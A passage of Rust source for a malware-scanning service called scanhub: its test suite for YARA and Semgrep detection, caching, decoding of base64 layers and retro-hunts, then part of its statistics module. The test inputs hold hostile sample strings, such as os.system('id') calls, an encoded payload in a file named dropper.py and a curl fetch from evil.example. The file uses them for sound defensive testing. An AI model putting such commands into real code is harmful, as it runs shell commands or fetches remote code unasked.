            .submit(ScanRequest::from_files(vec![shared.clone(), v2]))
            .wait();
        assert!(first.same_matches(&second), "version bump kept the payload");
        let stats = hub.stats();
        // 4 entries submitted, 3 unique digests: util.py analyzed once.
        assert_eq!(stats.artifact_parses, 3);
        assert_eq!(stats.artifact_cache_hits, 1);
        assert_eq!(hub.cached_artifacts(), 3);
        // Resubmitting the second version re-parses nothing.
        let parses_before = stats.artifact_parses;
        let third = hub
            .submit(ScanRequest::from_files(vec![shared, v2_clone()]))
            .wait();
        assert!(third.same_matches(&second));
        assert_eq!(hub.stats().artifact_parses, parses_before);

        fn v2_clone() -> FileEntry {
            FileEntry::new("pkg/__init__.py", b"VERSION = '1.1'\n".to_vec())
        }
    }

    /// A token-dense module long enough that a one-line edit is a small
    /// fraction of the file — the shape version bumps actually take.
    fn versioned_body(marker: &str) -> String {
        let mut code = String::from("import os\nimport socket\n");
        for i in 0..12 {
            code.push_str(&format!("pad_{i} = {i} * {i} + len('padding')\n"));
        }
        code.push_str(&format!("payload = '{marker}'\n"));
        for i in 12..24 {
            code.push_str(&format!("pad_{i} = pad_{} - {i}\n", i - 12));
        }
        code
    }

    #[test]
    fn version_bumps_splice_instead_of_reparsing() {
        let hub = hub(HubConfig {
            cache_capacity: 0, // force full scans so the artifact path runs
            ..HubConfig::default()
        });
        let v1 = hub.submit(request(&versioned_body("v1"))).wait();
        assert!(!v1.flagged());
        // The bump plants an IOC inside the edited line: the spliced
        // artifact recomputes every downstream product, so the new
        // payload must be caught, not masked by the sibling's hits.
        let v2_code = versioned_body("v2: os.system(x)");
        let v2 = hub.submit(request(&v2_code)).wait();
        assert!(
            v2.yara.contains(&"sys".to_owned()),
            "splice hid a planted IOC"
        );
        let stats = hub.stats();
        assert_eq!(stats.incremental_relexes, 1, "one-line bump must splice");
        assert_eq!(stats.splice_fallbacks, 0);
        assert_eq!(stats.artifact_parses, 1, "v2 paid no full reparse");
        assert!(
            stats.relexed_bytes > 0 && stats.relexed_bytes < v2_code.len() as u64 / 2,
            "splice relexed {} of {} bytes",
            stats.relexed_bytes,
            v2_code.len()
        );
        // The splice shows up as its own (artifact-nested) stage, and
        // the residency gauge sees both cached versions.
        assert!(stats.latency.splice.count >= 1);
        assert!(stats.artifact_bytes_resident > v2_code.len() as u64);
        // Byte-identical verdict to a cold hub that never saw v1.
        let cold_hub = self::hub(HubConfig::default());
        let cold = cold_hub.submit(request(&v2_code)).wait();
        assert!(
            v2.same_matches(&cold),
            "spliced verdict diverged from cold build"
        );
    }

    #[test]
    fn unspliceable_edits_fall_back_and_are_counted() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let _ = hub.submit(request(&versioned_body("v1"))).wait();
        // A wholesale rewrite shares nothing with the sibling: the diff
        // window spans the file and splicing is not profitable.
        let v = hub.submit(request("rewritten = 'from scratch'\n")).wait();
        assert!(!v.flagged());
        let stats = hub.stats();
        assert_eq!(stats.incremental_relexes, 0);
        assert_eq!(stats.splice_fallbacks, 1);
        assert_eq!(stats.artifact_parses, 2, "fallback pays the full build");
        // Non-Python files are never splice candidates, so their
        // version bumps are not counted as fallbacks.
        for version in ["Metadata-Version: 1.0\n", "Metadata-Version: 1.1\n"] {
            let entry = FileEntry::new("PKG-INFO", version.as_bytes().to_vec());
            let _ = hub.submit(ScanRequest::from_files(vec![entry])).wait();
        }
        assert_eq!(hub.stats().splice_fallbacks, 1, "non-Python bump counted");
        assert_eq!(hub.stats().incremental_relexes, 0);
    }

    #[test]
    fn exports_carry_the_splice_counters_and_residency_gauge() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let _ = hub.submit(request(&versioned_body("v1"))).wait();
        let _ = hub.submit(request(&versioned_body("v2"))).wait();
        let text = hub.export_prometheus();
        telemetry::validate_prometheus(&text).expect("valid exposition format");
        assert!(text.contains("scanhub_incremental_relexes_total 1"));
        assert!(text.contains("scanhub_splice_fallbacks_total 0"));
        assert!(text.contains("scanhub_relexed_bytes_total"));
        assert!(text.contains("scanhub_artifact_bytes_resident"));
        assert!(text.contains("stage=\"splice\""));
        let json = hub.export_json().to_string();
        assert!(json.contains("scanhub_incremental_relexes_total"));
        assert!(json.contains("scanhub_relexed_bytes_total"));
        assert!(json.contains("scanhub_artifact_bytes_resident"));
    }

    #[test]
    fn changed_bytes_are_never_served_a_stale_artifact() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let clean = hub.submit(request("print('ok')\n")).wait();
        assert!(!clean.flagged());
        // Same file name, new bytes carrying a payload: the artifact
        // cache must analyze the new content, not reuse the clean one.
        let dirty = hub
            .submit(request("print('ok')\nimport os\nos.system('id')\n"))
            .wait();
        assert!(dirty.flagged(), "stale artifact served for changed bytes");
        assert_eq!(hub.stats().artifact_cache_hits, 0);
    }

    #[test]
    fn artifact_cache_can_be_disabled() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        });
        for _ in 0..3 {
            let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
        }
        let stats = hub.stats();
        assert_eq!(stats.artifact_parses, 3, "every request re-analyzes");
        assert_eq!(stats.artifact_cache_hits, 0);
        assert_eq!(hub.cached_artifacts(), 0);
    }

    #[test]
    fn decoded_layer_finding_is_tagged_with_provenance() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let code = format!("data = 'irrelevant'\nblob = '{payload}'\n");
        let v = hub
            .submit(ScanRequest::from_source("dropper.py", code))
            .wait();
        // Surface: the b64 regex rule sees the encoded blob itself.
        assert_eq!(v.yara, vec!["b64".to_owned()]);
        // Layer: the decoded payload trips the os.system rule, tagged
        // with file, encoding, depth and source line.
        let layer = v
            .layers
            .iter()
            .find(|l| l.rule == "sys")
            .expect("layer finding");
        assert_eq!(layer.file, "dropper.py");
        assert_eq!(layer.encoding, crate::LayerEncoding::Base64);
        assert_eq!(layer.depth, 1);
        assert_eq!(layer.line, 2);
        assert!(hub.stats().layers_decoded >= 1);
        assert!(hub.stats().layer_bytes_scanned >= 25);
    }

    #[test]
    fn stringless_rules_do_not_fire_on_decoded_layers() {
        // `tiny` (filesize bound) and `missing` (bare negation) carry no
        // string evidence a layer could hold; layer evaluation must be
        // restricted to rules with hits in the unit or both match every
        // decoded layer trivially (a layer's unit-local filesize is tiny
        // and its negated string is absent) and flag clean packages.
        let rules = r#"
rule sys { strings: $a = "os.system" condition: $a }
rule tiny { condition: filesize < 100 }
rule missing { strings: $a = "never-present-atom" condition: not $a }
"#;
        let hub = ScanHub::new(
            Some(yara_engine::compile(rules).expect("yara")),
            None,
            HubConfig {
                cache_capacity: 0,
                ..HubConfig::default()
            },
        );
        let payload = digest::base64::encode(b"import os;os.system('id')");
        // Pad the request past `tiny`'s filesize bound so the surface
        // scan does not fire it either.
        let code = format!("blob = '{payload}'\n# {}\n", "x".repeat(120));
        let v = hub
            .submit(ScanRequest::from_source("dropper.py", code))
            .wait();
        // Surface: only the negation rule holds (its atom is absent).
        assert_eq!(v.yara, vec!["missing".to_owned()]);
        // Layers: exactly the rule with evidence in the decoded unit.
        assert!(v.layers.iter().any(|l| l.rule == "sys"));
        assert!(
            v.layers.iter().all(|l| l.rule == "sys"),
            "stringless/negated rules fired on a decoded layer: {:?}",
            v.layers
        );
    }

    #[test]
    fn zero_decode_depth_disables_layered_findings() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            max_decode_depth: 0,
            ..HubConfig::default()
        });
        let payload = digest::base64::encode(b"import os;os.system('id')");
        let v = hub
            .submit(ScanRequest::from_source(
                "dropper.py",
                format!("blob = '{payload}'\n"),
            ))
            .wait();
        assert!(v.layers.is_empty());
        assert_eq!(hub.stats().layers_decoded, 0);
    }

    #[test]
    fn verdicts_are_sorted_and_deduplicated() {
        // `sys` declared before `net` in the ruleset but `net` sorts
        // first; both fire here.
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let v = hub
            .submit(request(
                "import os, socket\nsocket.socket()\nos.system('id')\n",
            ))
            .wait();
        assert_eq!(v.yara, vec!["net".to_owned(), "sys".to_owned()]);
        let mut sorted = v.yara.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(v.yara, sorted);
    }

    #[test]
    fn verdicts_are_deterministic_across_worker_counts() {
        let codes: Vec<String> = (0..24)
            .map(|i| match i % 4 {
                0 => format!("import os\nos.system('c{i}')\nimport socket\nsocket.socket()\n"),
                1 => format!(
                    "blob = '{}'\n",
                    digest::base64::encode(format!("os.system('p{i}')").as_bytes())
                ),
                2 => format!("def f{i}():\n    return {i}\n"),
                _ => format!("payload_{i} = 'aW1wb3J0IG9zO2V4ZWMoKQ=='\n"),
            })
            .collect();
        let mut baseline: Option<Vec<Verdict>> = None;
        for workers in [1usize, 2, 8] {
            let hub = hub(HubConfig {
                workers,
                cache_capacity: 0,
                ..HubConfig::default()
            });
            let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
            match &baseline {
                None => baseline = Some(verdicts),
                Some(expected) => {
                    assert_eq!(&verdicts, expected, "diverged at {workers} workers");
                }
            }
        }
    }

    #[test]
    fn prefilter_skips_clean_packages_entirely() {
        let hub = ScanHub::new(
            Some(
                yara_engine::compile("rule sys { strings: $a = \"os.system\" condition: $a }")
                    .expect("yara"),
            ),
            None,
            HubConfig {
                cache_capacity: 0,
                ..HubConfig::default()
            },
        );
        let v = hub
            .submit(request("def add(a, b):\n    return a + b\n"))
            .wait();
        assert!(!v.flagged());
        let stats = hub.stats();
        assert_eq!(stats.yara_scans_skipped, 1);
        assert_eq!(stats.yara_rules_skipped, 1);
        assert_eq!(stats.yara_rules_evaluated, 0);
        assert!(stats.prefilter_skip_rate() > 0.99);
    }

    #[test]
    fn regex_counters_track_engine_work() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let code = "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n";
        let v = hub.submit(request(code)).wait();
        assert_eq!(v.yara, vec!["b64".to_owned()]);
        let stats = hub.stats();
        // The b64 rule's regex ran at least once over the full buffer
        // (at artifact-build time — cache hits would pay nothing).
        assert!(stats.regex_strings_evaluated >= 1);
        assert!(stats.regex_bytes_scanned >= code.len() as u64);
        assert!(stats.regex_read_amplification() > 0.0);
        // A resubmission reuses the artifact: no new regex bytes.
        let before = stats.regex_bytes_scanned;
        let _ = hub.submit(request(code)).wait();
        assert_eq!(hub.stats().regex_bytes_scanned, before);
        assert!(hub.stats().artifact_hit_rate() > 0.0);
    }

    #[test]
    fn semgrep_counters_track_single_pass_work_and_zero_reparses() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        for code in [
            "import os\nos.system('id')\n",
            "def f():\n    return os.system(x)\n",
            "print('clean, but os.system appears in a string')\n",
        ] {
            let _ = hub.submit(request(code)).wait();
        }
        let stats = hub.stats();
        // Every routed source was walked exactly once per module.
        assert!(stats.semgrep_stmts_visited >= 4, "{stats:?}");
        // Compile-once matching: the scan path never re-parses patterns.
        assert_eq!(stats.semgrep_pattern_reparses, 0);
    }

    #[test]
    fn scan_ordered_preserves_submission_order() {
        let hub = hub(HubConfig {
            queue_capacity: 2,
            workers: 3,
            ..HubConfig::default()
        });
        let codes: Vec<String> = (0..40)
            .map(|i| {
                if i % 3 == 0 {
                    format!("import os\nos.system('cmd{i}')\n")
                } else {
                    format!("def f{i}():\n    return {i}\n")
                }
            })
            .collect();
        let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
        assert_eq!(verdicts.len(), 40);
        for (i, v) in verdicts.iter().enumerate() {
            assert_eq!(v.yara.is_empty(), i % 3 != 0, "index {i}");
        }
    }

    #[test]
    fn prefilter_and_exhaustive_agree() {
        let fast = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let slow = hub(HubConfig {
            prefilter: false,
            cache_capacity: 0,
            ..HubConfig::default()
        });
        for code in [
            "import os\nos.system('id')\n",
            "import socket\nsocket.socket()\n",
            "payload = 'aW1wb3J0IG9zO2V4ZWMoKQzz12345'\n",
            "print('clean')\n",
        ] {
            let a = fast.submit(request(code)).wait();
            let b = slow.submit(request(code)).wait();
            assert_eq!(a, b, "divergence on {code:?}");
        }
    }

    #[test]
    fn python_entries_route_semgrep_even_when_other_files_are_clean() {
        // Semgrep routing must come from the Python entries themselves:
        // a payload-free data file plus a hot Python file must still
        // route and match the Semgrep rule.
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let v = hub
            .submit(ScanRequest::from_files(vec![
                FileEntry::new("assets/data.bin", b"clean bytes".to_vec()),
                FileEntry::new("mod.py", b"import os\nos.system('x')\n".to_vec()),
            ]))
            .wait();
        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
    }

    #[test]
    fn cross_file_conditions_see_the_whole_package() {
        // `all of them` with atoms split across two files: the per-file
        // hit sets must union before condition evaluation.
        let hub = ScanHub::new(
            Some(
                yara_engine::compile(
                    "rule pair { strings: $a = \"marker_one\" $b = \"marker_two\" condition: all of them }",
                )
                .expect("yara"),
            ),
            None,
            HubConfig {
                cache_capacity: 0,
                ..HubConfig::default()
            },
        );
        let v = hub
            .submit(ScanRequest::from_files(vec![
                FileEntry::new("a.py", b"x = 'marker_one'\n".to_vec()),
                FileEntry::new("b.py", b"y = 'marker_two'\n".to_vec()),
            ]))
            .wait();
        assert_eq!(v.yara, vec!["pair".to_owned()]);
        // Either file alone must not satisfy the condition.
        let half = hub
            .submit(ScanRequest::from_files(vec![FileEntry::new(
                "a.py",
                b"x = 'marker_one'\n".to_vec(),
            )]))
            .wait();
        assert!(half.yara.is_empty());
    }

    #[test]
    fn scan_ordered_keeps_order_under_concurrent_submitters() {
        // Several client threads interleave submissions into one hub with
        // a deliberately tiny queue; each client's batch must come back
        // in its own submission order regardless of global interleaving.
        let hub = hub(HubConfig {
            queue_capacity: 1,
            workers: 4,
            cache_capacity: 0,
            ..HubConfig::default()
        });
        std::thread::scope(|scope| {
            for client in 0..4 {
                let hub = &hub;
                scope.spawn(move || {
                    let codes: Vec<String> = (0..25)
                        .map(|i| {
                            if (i + client) % 2 == 0 {
                                format!("import os\nos.system('c{client}_{i}')\n")
                            } else {
                                format!("def f{client}_{i}():\n    return {i}\n")
                            }
                        })
                        .collect();
                    let verdicts = hub.scan_ordered(codes.iter().map(|c| request(c)));
                    for (i, v) in verdicts.iter().enumerate() {
                        assert_eq!(
                            v.yara.contains(&"sys".to_owned()),
                            (i + client) % 2 == 0,
                            "client {client} index {i} out of order"
                        );
                    }
                });
            }
        });
        assert_eq!(hub.stats().completed, 100);
    }

    #[test]
    fn wait_timeout_times_out_on_a_saturated_queue_then_resolves() {
        // One worker, a two-slot queue, caches off: after the final
        // submit returns, at least the last two jobs are still queued
        // behind the in-flight scan, so a zero-duration wait on the
        // last ticket must observe "pending".
        let hub = hub(HubConfig {
            workers: 1,
            queue_capacity: 2,
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        });
        let body = "x = 'just some bytes to scan'\n".repeat(2_000);
        let tickets: Vec<Ticket> = (0..12)
            .map(|i| hub.submit(request(&format!("# upload {i}\n{body}"))))
            .collect();
        let last = tickets.last().expect("tickets");
        assert!(
            last.wait_timeout(Duration::ZERO).is_none(),
            "last ticket resolved while the queue was saturated"
        );
        // A generous deadline resolves...
        let v = last.wait_timeout(Duration::from_secs(60)).expect("verdict");
        assert!(!v.flagged());
        // ...and a fulfilled ticket answers instantly ever after.
        assert_eq!(last.wait_timeout(Duration::ZERO), Some(v));
        for t in &tickets {
            let _ = t.wait();
        }
        assert_eq!(hub.stats().completed, 12);
    }

    #[test]
    #[should_panic(expected = "scan worker panicked")]
    fn wait_timeout_propagates_worker_panics() {
        let state = Arc::new(TicketState {
            slot: Mutex::new(None),
            ready: Condvar::new(),
        });
        state.fulfill(Err("scan worker panicked: boom".to_owned()));
        let _ = Ticket { state }.wait_timeout(Duration::ZERO);
    }

    #[test]
    fn wait_timeout_with_an_overflowing_deadline_blocks_like_wait() {
        // `Instant::now() + Duration::MAX` is unrepresentable; the
        // overflowed deadline must mean "infinitely patient", not
        // "already expired". Regression: this returned `None`
        // immediately, so callers passing a huge timeout lost verdicts.
        let hub = hub(HubConfig::default());
        let ticket = hub.submit(request("import os\nos.system('id')\n"));
        let v = ticket
            .wait_timeout(Duration::MAX)
            .expect("an unrepresentable deadline must block until the verdict, like wait()");
        assert!(v.flagged());
        // Near-overflow values that still fit behave the same.
        let ticket = hub.submit(request("print('clean')\n"));
        assert!(ticket
            .wait_timeout(Duration::from_secs(u64::MAX / 4))
            .is_some());
    }

    #[test]
    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
        let hub = hub(HubConfig::default());
        for (i, code) in [
            "import os\nos.system('id')\n",
            "import socket\nsocket.socket()\n",
            "print('benign upload')\n",
            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
        ]
        .iter()
        .enumerate()
        {
            let _ = hub
                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
                .wait();
        }
        // New bundle: same three rules plus one new atom-gated rule.
        let new_yara = yara_engine::compile(&format!(
            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
        ))
        .expect("yara");
        let deployment = hub.deploy_rules(
            Some(new_yara),
            Some(semgrep_engine::compile(SEMGREP).expect("s")),
        );
        assert_eq!(
            deployment.delta.changed.len(),
            1,
            "only the new rule changed"
        );
        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
        assert_eq!(deployment.delta.unchanged, 4);
        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
        assert_eq!(report.rules.len(), 1);
        assert_eq!(
            report.rules[0].digests.len(),
            1,
            "exactly one upload has the atom"
        );
        assert_eq!(report.digests_indexed, 4);
        assert!(
            report.confirm_scans < report.digests_indexed,
            "the index must prune: {} scans over {} digests",
            report.confirm_scans,
            report.digests_indexed
        );
        let stats = hub.stats();
        assert_eq!(stats.retro_hunts, 1);
        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
        assert_eq!(stats.retro_candidates, report.candidates);
        assert!(stats.retro_index_atoms > 0);
        assert_eq!(stats.retro_index_digests, 4);
        // The retro stages recorded latency samples.
        assert_eq!(stats.latency.retro_query.count, 1);
        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
        // Export carries the new counters and gauges.
        let text = hub.export_prometheus();
        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
        assert!(text.contains("scanhub_retro_index_digests 4"));
        assert!(telemetry::validate_prometheus(&text).is_ok());
    }

    #[test]
    fn retro_hunt_is_unavailable_without_cache_or_index() {
        let no_cache = hub(HubConfig {
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        });
        let deployment =
            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
        assert!(no_cache.retro_hunt(&deployment).is_none());
        assert!(no_cache.retro_rescan(&deployment).is_none());
        let no_index = hub(HubConfig {
            retro_index: false,
            ..HubConfig::default()
        });
        let _ = no_index.submit(request("print('x')\n")).wait();
        assert!(no_index.retro_hunt(&deployment).is_none());
        assert_eq!(no_index.retro_index_size(), (0, 0));
    }

    #[test]
    fn disabled_telemetry_reads_no_clocks_and_records_nothing() {
        let hub = hub(HubConfig {
            telemetry: false,
            ..HubConfig::default()
        });
        assert!(!hub.telemetry_enabled());
        let v = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert!(v.flagged());
        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert!(hub.traces().is_empty());
        assert_eq!(hub.traces_recorded(), 0);
        let stats = hub.stats();
        assert_eq!(stats.latency, StageLatencies::default());
        // Counters still work; only the latency layer is off.
        assert_eq!(stats.completed, 2);
        assert_eq!(stats.cache_hits, 1);
    }

    #[test]
    fn cache_hits_leave_their_own_trace() {
        let hub = hub(HubConfig::default());
        let req = request("import os\nos.system('id')\n");
        let hex = req.digest_hex();
        let _ = hub.submit(req).wait();
        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
        let traces = hub.traces();
        assert_eq!(traces.len(), 2);
        let scan = &traces[0];
        let hit = &traces[1];
        assert!(!scan.from_cache);
        assert!(scan.worker.is_some());
        assert!(hit.from_cache);
        assert_eq!(hit.worker, None);
        assert!(hit.stages.cache > 0);
        assert_eq!(hit.stages.artifact, 0);
        // Both traces carry the digest, and both explain the verdict.
        assert_eq!(scan.digest.as_deref(), Some(hex.as_str()));
        assert_eq!(hit.digest, scan.digest);
        assert_eq!(hub.trace_for_digest(&hex).expect("trace").seq, hit.seq);
        assert!(hit.fired.iter().any(|f| f.rule == "sys"));
    }

    #[test]
    fn exports_render_and_validate() {
        let hub = hub(HubConfig::default());
        let _ = hub.submit(request("import os\nos.system('id')\n")).wait();
        let text = hub.export_prometheus();
        telemetry::validate_prometheus(&text).expect("valid exposition format");
        assert!(text.contains("scanhub_submitted_total 1"));
        assert!(text.contains("scanhub_stage_duration_ns_bucket"));
        assert!(text.contains("stage=\"artifact\""));
        // The matching-tier counters ride along in both exposition
        // formats (process-global, so only presence is asserted).
        assert!(text.contains("textmatch_teddy_scans_total"));
        assert!(text.contains("textmatch_dfa_states_built_total"));
        assert!(text.contains("textmatch_pikevm_fallbacks_total"));
        let json = hub.export_json().to_string();
        assert!(json.contains("scanhub_scan_duration_ns"));
        assert!(json.contains("\"p99\""));
        assert!(json.contains("textmatch_teddy_bytes_scanned_total"));
        assert!(json.contains("textmatch_ac_fallback_scans_total"));
    }

    #[test]
    fn matching_tier_counters_reach_hub_stats() {
        // The default test bundle has multi-byte literal atoms, so the
        // prefilter and scanner multi-literal matchers run the Teddy
        // tier; the counters are process-global, so assert deltas-or-
        // better rather than exact values.
        let before = hub(HubConfig::default()).stats().engine;
        let h = hub(HubConfig::default());
        let _ = h.submit(request("import os\nos.system('id')\n")).wait();
        let after = h.stats().engine;
        assert!(
            after.teddy_scans > before.teddy_scans,
            "scanning with literal atoms must exercise the Teddy tier"
        );
        assert!(after.teddy_bytes_scanned >= before.teddy_bytes_scanned);
    }

    #[test]
    #[should_panic(expected = "scan worker panicked")]
    fn wait_propagates_worker_panics() {
        let state = Arc::new(TicketState {
            slot: Mutex::new(None),
            ready: Condvar::new(),
        });
        state.fulfill(Err("scan worker panicked: boom".to_owned()));
        Ticket { state }.wait();
    }

    #[test]
    fn empty_rule_bundle_always_passes() {
        let hub = ScanHub::new(None, None, HubConfig::default());
        let v = hub.submit(request("anything")).wait();
        assert_eq!(v, Verdict::default());
    }

    #[test]
    fn drop_joins_workers_with_pending_jobs() {
        let hub = hub(HubConfig {
            workers: 1,
            ..HubConfig::default()
        });
        let tickets: Vec<Ticket> = (0..16)
            .map(|i| hub.submit(request(&format!("x = {i}\n"))))
            .collect();
        drop(hub);
        // Workers drain the queue before exiting, so every ticket resolves.
        for t in &tickets {
            let _ = t.wait();
        }
    }
}

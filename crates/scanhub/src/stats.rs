//! Service counters: throughput, cache effectiveness, prefilter skips,
//! and per-stage latency percentiles.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};

use telemetry::HistogramSnapshot;

/// Lock-free counters updated by the submission path and the workers.
#[derive(Debug, Default)]
pub(crate) struct HubCounters {
    pub submitted: AtomicU64,
    pub completed: AtomicU64,
    pub cache_hits: AtomicU64,
    pub bytes_scanned: AtomicU64,
    pub yara_scans_skipped: AtomicU64,
    pub semgrep_parses_skipped: AtomicU64,
    pub yara_rules_evaluated: AtomicU64,
    pub yara_rules_skipped: AtomicU64,
    pub semgrep_rules_evaluated: AtomicU64,
    pub semgrep_rules_skipped: AtomicU64,
    pub regex_strings_evaluated: AtomicU64,
    pub regex_bytes_scanned: AtomicU64,
    pub semgrep_stmts_visited: AtomicU64,
    pub semgrep_pattern_reparses: AtomicU64,
    pub artifact_parses: AtomicU64,
    pub artifact_cache_hits: AtomicU64,
    pub incremental_relexes: AtomicU64,
    pub splice_fallbacks: AtomicU64,
    pub relexed_bytes: AtomicU64,
    pub layers_decoded: AtomicU64,
    pub layer_bytes_scanned: AtomicU64,
    pub taint_analyses: AtomicU64,
    pub flows_found: AtomicU64,
    pub consts_folded: AtomicU64,
    pub retro_hunts: AtomicU64,
    pub retro_candidates: AtomicU64,
    pub retro_confirm_scans: AtomicU64,
}

impl HubCounters {
    pub fn add(counter: &AtomicU64, n: u64) {
        counter.fetch_add(n, Ordering::Relaxed);
    }

    pub fn snapshot(&self) -> HubStats {
        let load = |c: &AtomicU64| c.load(Ordering::Relaxed);
        HubStats {
            submitted: load(&self.submitted),
            completed: load(&self.completed),
            cache_hits: load(&self.cache_hits),
            bytes_scanned: load(&self.bytes_scanned),
            yara_scans_skipped: load(&self.yara_scans_skipped),
            semgrep_parses_skipped: load(&self.semgrep_parses_skipped),
            yara_rules_evaluated: load(&self.yara_rules_evaluated),
            yara_rules_skipped: load(&self.yara_rules_skipped),
            semgrep_rules_evaluated: load(&self.semgrep_rules_evaluated),
            semgrep_rules_skipped: load(&self.semgrep_rules_skipped),
            regex_strings_evaluated: load(&self.regex_strings_evaluated),
            regex_bytes_scanned: load(&self.regex_bytes_scanned),
            semgrep_stmts_visited: load(&self.semgrep_stmts_visited),
            semgrep_pattern_reparses: load(&self.semgrep_pattern_reparses),
            artifact_parses: load(&self.artifact_parses),
            artifact_cache_hits: load(&self.artifact_cache_hits),
            incremental_relexes: load(&self.incremental_relexes),
            splice_fallbacks: load(&self.splice_fallbacks),
            relexed_bytes: load(&self.relexed_bytes),
            artifact_bytes_resident: 0,
            layers_decoded: load(&self.layers_decoded),
            layer_bytes_scanned: load(&self.layer_bytes_scanned),
            taint_analyses: load(&self.taint_analyses),
            flows_found: load(&self.flows_found),
            consts_folded: load(&self.consts_folded),
            retro_hunts: load(&self.retro_hunts),
            retro_candidates: load(&self.retro_candidates),
            retro_confirm_scans: load(&self.retro_confirm_scans),
            // The hub overlays histogram percentiles, the retro-index
            // gauges, and the process-global matching-tier counters
            // after the counter snapshot (see `ScanHub::stats`).
            retro_index_atoms: 0,
            retro_index_digests: 0,
            engine: textmatch::EngineCounters::default(),
            latency: StageLatencies::default(),
        }
    }
}

/// A point-in-time snapshot of the hub's counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct HubStats {
    /// Packages submitted (including cache hits).
    pub submitted: u64,
    /// Packages fully processed (scanned or served from cache).
    pub completed: u64,
    /// Submissions answered from the verdict cache.
    pub cache_hits: u64,
    /// Total buffer bytes run through scanners (cache hits excluded).
    pub bytes_scanned: u64,
    /// Packages whose YARA pass was skipped entirely (no rule routed).
    pub yara_scans_skipped: u64,
    /// Packages whose Python sources were never parsed for Semgrep
    /// (no rule routed).
    pub semgrep_parses_skipped: u64,
    /// YARA rule condition evaluations performed.
    pub yara_rules_evaluated: u64,
    /// YARA rule evaluations avoided by the literal prefilter.
    pub yara_rules_skipped: u64,
    /// Semgrep rule evaluations performed.
    pub semgrep_rules_evaluated: u64,
    /// Semgrep rule evaluations avoided by the literal prefilter.
    pub semgrep_rules_skipped: u64,
    /// YARA regex string definitions the scanner actually evaluated.
    pub regex_strings_evaluated: u64,
    /// Haystack bytes read by the regex engine (each evaluation is one
    /// single-pass scan, so this is buffer length times evaluations).
    pub regex_bytes_scanned: u64,
    /// Python statements visited by the Semgrep matcher's single-pass
    /// module walks (one walk serves every routed rule).
    pub semgrep_stmts_visited: u64,
    /// Pattern-text re-parses on the Semgrep scan path. Patterns are
    /// parsed once at rule-compile time, so this must stay **0** in
    /// steady state — a non-zero value means the seed's
    /// reparse-per-call cost model has returned.
    pub semgrep_pattern_reparses: u64,
    /// File entries analyzed from scratch (lex + parse + string intern +
    /// layer decode + ruleset byte scan). Across a hub run over N
    /// package versions this must equal the number of **unique file
    /// digests** — the parse-once contract of the artifact cache.
    pub artifact_parses: u64,
    /// File entries served by the content-addressed artifact cache
    /// (no lexing, parsing or byte scanning performed).
    pub artifact_cache_hits: u64,
    /// Artifact-cache misses resolved by splicing the edit into a
    /// cached sibling (a previous version of the same file) — only the
    /// changed window was re-lexed, only the statements intersecting it
    /// re-parsed. A spliced artifact is byte-for-byte identical to a
    /// full build; these subtract from `artifact_parses`' full-reparse
    /// cost, not from its correctness contract.
    pub incremental_relexes: u64,
    /// Splice attempts that had a Python sibling but bailed to a full
    /// build (suite-level edit, unterminated construct at the window
    /// end, edit bigger than half the file, non-UTF-8 content).
    /// Misses with no sibling — first sight of a path — are not
    /// attempts and are not counted here.
    pub splice_fallbacks: u64,
    /// Bytes of new content covered by incremental relex windows; the
    /// gap to the spliced files' total size is lexing the splice path
    /// avoided.
    pub relexed_bytes: u64,
    /// Decoded payload layers extracted while building artifacts.
    pub layers_decoded: u64,
    /// Bytes of decoded-layer content run through the YARA string scan
    /// at artifact-build time.
    pub layer_bytes_scanned: u64,
    /// Taint analyses run at artifact-build time. Across a hub run this
    /// equals the number of unique **Python** file digests — the
    /// once-per-digest contract extends to the behavior engine.
    pub taint_analyses: u64,
    /// Source→sink flows found by those analyses (per unique digest,
    /// not per request).
    pub flows_found: u64,
    /// Constant strings the fold pass rebuilt into synthetic layers.
    pub consts_folded: u64,
    /// Retro-hunt deployments executed ([`crate::ScanHub::retro_hunt`]).
    pub retro_hunts: u64,
    /// Digests the retro index nominated as candidates, summed over all
    /// hunts (a digest nominated by two rules counts twice).
    pub retro_candidates: u64,
